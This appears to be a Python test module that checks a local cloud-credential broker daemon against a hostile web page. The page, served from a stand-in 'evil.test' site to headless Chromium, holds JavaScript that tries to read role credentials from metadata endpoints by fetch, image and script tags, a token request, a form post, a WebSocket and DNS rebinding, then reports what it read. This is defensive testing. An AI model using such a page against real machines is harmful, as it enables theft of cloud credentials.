"""A hostile page in a real browser on the machine that the daemon serves: what a page can have sent, and what it can read."""

import contextlib
import http.server
import json
import re
import shutil
import subprocess
import tempfile
import threading
import urllib.request

from stage import NotHere, free_port, wait_for

from .scene import SERVED, Scene

KIND = "browser"
GUARD = "src/endpoint/guard.rs"
EVIL, REBOUND = "evil.test", "rebound.test"
ROLE = "/latest/meta-data/iam/security-credentials/reader"

# Each attempt has the page say what it could read; "" is nothing. The secrets are given to the page, which no page has, so that it is
# the browser that is turned away and not the ticket that is missing.
PAGE = """<!doctype html><script>
const places = %s;
const text = (url, options) => fetch(url, options).then(it => it.text()).catch(() => "");
const tag = (name, url) => new Promise(done => {
  const it = document.createElement(name);
  it.onload = () => done(name + " loaded"); it.onerror = () => done("");
  it.src = url; document.documentElement.append(it);
});
const socket = url => new Promise(done => {
  const it = new WebSocket(url);
  it.onopen = () => done("open"); it.onerror = () => done("");
});
const form = url => new Promise(done => {
  const frame = document.createElement("iframe"); frame.name = "frame"; document.documentElement.append(frame);
  frame.onload = () => { let seen = ""; try { seen = frame.contentDocument.body.innerText } catch {} done(seen) };
  const it = document.createElement("form"); it.method = "POST"; it.action = url; it.target = "frame";
  document.documentElement.append(it); it.submit();
});
(async () => {
  const said = {
    simple: await text(places.old),
    blind: await text(places.old, {mode: "no-cors"}),
    image: await tag("img", places.old),
    script: await tag("script", places.old),
    preflighted: await text(places.container, {headers: {Authorization: places.ticket}}),
    token: await text(places.token, {method: "PUT", headers: {"X-aws-ec2-metadata-token-ttl-seconds": "60"}}),
    form: await form(places.container),
    socket: await socket(places.old.replace("http", "ws")),
    rebound: await text(places.rebound),
  };
  await fetch("/report", {method: "POST", body: JSON.stringify(said)});
})();
</script>"""
NAMES = {
    "simple": "a page fetches a role's credentials of version 1",
    "blind": "a page fetches them without wanting to read them",
    "image": "a page takes them for a picture",
    "script": "a page takes them for a script",
    "preflighted": "a page fetches credentials with a ticket in a header, which the browser asks leave for",
    "token": "a page puts for a metadata token",
    "form": "a page posts a form to the container endpoint",
    "socket": "a page opens a WebSocket to the metadata endpoint",
    "rebound": "a page fetches them by a name that was pointed at this machine",
}


def attacks(suite):
    browser = shutil.which("chromium")
    if not browser:
        raise NotHere("there is no chromium")
    scene = Scene(suite, "browsed")
    said = {}
    with Site(scene) as site:
        with suite.stage.case("browser: the page runs, says what it could read, and was answered nothing but refusals"):
            before = counted(scene)
            site.visit(browser, f"http://{EVIL}:{site.port}/")
            said = site.said
            assert set(said) == set(NAMES), said
            answered = {what: count - before.get(what, 0) for what, count in counted(scene).items() if count > before.get(what, 0)}
            # Whether a page can read an answer is the browser's business; that there is none to read is ours.
            assert {status for _, status in answered} == {"403"}, answered
            assert {endpoint for endpoint, _ in answered} == {"local", "metadata", "old"} and sum(answered.values()) >= 8, answered
    for what, name in NAMES.items():
        with suite.attack(KIND, name, GUARD, scene) as attack:
            assert said.get(what) == "", f"{what}: the page could read {len(said.get(what) or '')} characters"
            attack.saw = "nothing to read"
    with suite.attack(KIND, "a page is opened at the metadata endpoint by a name that was pointed at this machine", GUARD, scene) as attack:
        url = f"http://{REBOUND}:{scene.old.place}{ROLE}"
        honest = scene.old.ask()
        assert honest.status == SERVED, honest.status
        shown = dump(browser, url)
        suite.shows_nothing(shown)
        assert "AccessKeyId" not in shown, shown[:200]
        attack.saw = "nothing to read"
    with suite.attack(KIND, "all of it is on record as a browser's, or as another host's", "src/endpoint/audit.rs", scene) as attack:
        log = scene.daemon.process.log.read_text()
        assert "a browser sent the request" in log and "the request names another host" in log
        attack.saw = "refusals, with their reasons"


def counted(scene):
    """How many requests each lending endpoint has answered, by status."""
    samples = re.findall(r'credbroker_requests_total{endpoint="(\w+)",status="(\d+)"} (\d+)', scene.metrics.ask().body.decode())
    return {(endpoint, status): int(count) for endpoint, status, count in samples if endpoint in ("local", "metadata", "old")}


class Site:
    """A web server of the attacker's, which hands out the page and takes its report."""

    def __init__(self, scene):
        self.said = {}
        self.port = free_port()
        places = {
            "old": f"http://127.0.0.1:{scene.old.place}{ROLE}", "container": f"http://127.0.0.1:{scene.container.place}/v1/credentials",
            "token": f"http://127.0.0.1:{scene.imds.place}/latest/api/token", "ticket": scene.ticket,
            "rebound": f"http://{REBOUND}:{scene.old.place}{ROLE}",
        }
        page = (PAGE % json.dumps(places)).encode()
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                self.answer(page if self.path == "/" else b"")

            def do_POST(self):
                site.said = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self.answer(b"")

            def answer(self, body):
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", self.port), Handler)

    def __enter__(self):
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        urllib.request.urlopen(f"http://127.0.0.1:{self.port}/", timeout=10).close()
        return self

    def __exit__(self, *_):
        self.server.shutdown()

    def visit(self, browser, url):
        with started(browser, url, subprocess.DEVNULL) as running:
            wait_for(lambda: self.said or running.poll() is not None, "the page's report", seconds=90)
            assert self.said, "the browser ended without a report"


@contextlib.contextmanager
def started(browser, url, output, *more):
    with tempfile.TemporaryDirectory(prefix="credbroker-browser.", ignore_cleanup_errors=True) as profile:
        argv = [browser, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
                "--disable-background-networking", f"--user-data-dir={profile}",
                f"--host-resolver-rules=MAP {EVIL} 127.0.0.1, MAP {REBOUND} 127.0.0.1", *more, url]
        running = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=output, stderr=subprocess.DEVNULL)
        try:
            yield running
        finally:
            running.terminate()
            with contextlib.suppress(subprocess.TimeoutExpired):
                running.wait(10)
            running.kill()
            running.wait()


def dump(browser, url):
    """What a person would see at `url`."""
    with started(browser, url, subprocess.PIPE, "--dump-dom", "--timeout=20000") as running:
        return running.communicate(timeout=90)[0].decode(errors="replace")
